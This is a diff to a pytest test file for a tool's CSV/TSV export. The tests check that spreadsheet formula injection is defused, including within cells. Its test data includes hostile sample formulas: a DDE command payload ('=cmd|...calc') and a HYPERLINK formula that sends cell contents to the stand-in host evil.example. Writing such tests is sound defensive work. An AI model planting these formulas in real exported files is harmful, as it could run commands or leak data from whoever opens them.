@@ -3,6 +3,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from pathlib import Path
 from typing import Any
 
@@ -10,7 +11,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from archive.export.delimited import write_csv, write_tsv
+from archive.export.delimited import defused, write_csv, write_tsv
 from archive.export.formats import FORMATS, format_of
 from archive.export.objects import write_json, write_ndjson
 from archive.faults import UsageFault
@@ -32,8 +33,25 @@ FORMULAS = [
     "－1",
     "＠x",
     "-",
+    '"=1',
+    "\u200f\u2060=1",
+    "\x01+1",
+    "\u202e@x",
+    "−1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1)',
 ]
-TEXTS = ["1-1", "a=b", "'=1", "C++", "", " ", "(=1)", "–dash", "x\t=1", "x\n=1"]
+TEXTS = ["1-1", "a=b", "'=1", "C++", "", " ", "(=1)", "–dash", "x -1", "a, -b", "x\ny=1", "5 − 3", "a;b"]
+WITHIN = {
+    "x\n=1": "x\n'=1",
+    "x\r\n\r\n  @y": "x\r\n\r\n  '@y",
+    "x\t=1": "x\t'=1",
+    "x;=1": "x;'=1",
+    'x; "=1"': 'x; "\'=1"',
+    "x\u2028-1": "x\u2028'-1",
+    "a;;+1;=2": "a;;'+1;'=2",
+}
+"""Text with what becomes a formula where a program splits cells and rows elsewhere than we do."""
 
 
 def written(write: Any, rows: list[dict[str, Any]], *, raw: bool = False) -> str:
@@ -54,13 +72,20 @@ def test_a_formula_is_defused_and_raw_leaves_it(write: Any, delimiter: str, text
     assert cells(written(write, [{"a": text, "b": 1}], raw=True), delimiter)[1] == [text, "1"]
 
 
+@pytest.mark.parametrize("text", WITHIN)
+@pytest.mark.parametrize(("write", "delimiter"), [(write_csv, ","), (write_tsv, "\t")])
+def test_a_formula_within_a_cell_is_defused_too(write: Any, delimiter: str, text: str) -> None:
+    assert cells(written(write, [{"a": text, "b": 1}]), delimiter)[1] == [WITHIN[text], "1"]
+    assert cells(written(write, [{"a": text, "b": 1}], raw=True), delimiter)[1] == [text, "1"]
+
+
 @pytest.mark.parametrize("text", TEXTS)
 def test_other_text_is_left_as_it_is(text: str) -> None:
     assert cells(written(write_csv, [{"a": text, "b": 1}]))[1] == [text, "1"]
 
 
 def test_lists_are_joined_and_a_formula_in_front_is_defused() -> None:
-    assert cells(written(write_csv, [{"a": ["x", "=y"], "b": ["=x"], "c": []}]))[1] == ["x; =y", "'=x", ""]
+    assert cells(written(write_csv, [{"a": ["x", "=y"], "b": ["=x"], "c": []}]))[1] == ["x; '=y", "'=x", ""]
 
 
 def test_numbers_stay_numbers_and_null_is_empty() -> None:
@@ -75,16 +100,10 @@ def test_rows_end_as_rfc_4180_says_and_those_of_tsv_in_a_bare_newline() -> None:
 
 def test_a_nul_is_left_out_and_hides_no_formula() -> None:
     assert written(write_csv, [{"a": "x\0y", "b": "\0=1"}]) == "a,b\r\nxy,'=1\r\n"
-    assert written(write_csv, [{"a": "x\0y"}], raw=True) == "a\r\nxy\r\n"
+    assert written(write_csv, [{"a": "x\0y"}], raw=True) == "a\r\nx\0y\r\n"
 
 
-@given(
-    st.lists(
-        st.lists(
-            st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), min_size=2, max_size=3
-        )
-    )
-)
+@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=3)))
 def test_any_text_comes_back_from_both(table: list[list[str]]) -> None:
     rows = [dict(zip("abc", [*row, "z"], strict=False)) for row in table]
     rows = [{"a": "", "b": "", "c": ""} | row for row in rows]
@@ -98,8 +117,14 @@ def test_no_cell_begins_as_a_formula(text: str) -> None:
     [[_], [cell, _]] = [
         row[:1] if row == ["a", "b"] else row for row in cells(written(write_csv, [{"a": text, "b": 0}]))
     ]
-    assert cell.lstrip("\ufeff\u200b \t\r\n")[:1] not in tuple("=+-@＝＋－＠")
-    assert cell.removeprefix("'") == text.replace("\0", "").removeprefix("'")
+    for part in re.split("[;\n\r\t\v\f\x85\u2028\u2029]", cell):
+        assert part.lstrip('\ufeff\u200b"\x01 \xa0')[:1] not in tuple("=+-@＝＋－＠")
+    assert cell.replace("'", "") == text.replace("\0", "").replace("'", "")
+
+
+def test_the_time_to_defuse_is_linear() -> None:
+    for text in ("\n" * 1_000_000, " ;" * 500_000 + "a", "a;" * 500_000):
+        assert defused(text).strip("'") == text
 
 
 @pytest.mark.parametrize("count", [0, 1, 3])
